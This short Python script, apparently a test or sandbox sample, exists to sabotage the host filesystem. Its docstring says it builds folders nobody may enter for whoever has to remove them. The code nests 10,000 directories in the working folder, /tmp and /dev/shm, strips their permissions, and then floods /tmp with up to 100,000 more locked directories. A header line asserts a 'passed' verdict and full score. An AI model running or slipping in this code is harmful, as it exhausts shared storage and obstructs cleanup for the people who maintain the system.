"""Folders that nobody may enter, ten thousand levels of them, for whoever has to remove them."""
EXPECT = {"verdict": "passed", "score": 5.0}
# %%
import os
for place in (".", "/tmp", "/dev/shm"):
    os.chdir(place)
    try:
        for level in range(10000):
            os.mkdir("d")
            os.chdir("d")
    except OSError:
        pass
    os.chmod(".", 0)
os.chdir("/")
for number in range(10**5):
    try:
        os.mkdir(f"/tmp/{number}", 0)
    except OSError:
        break
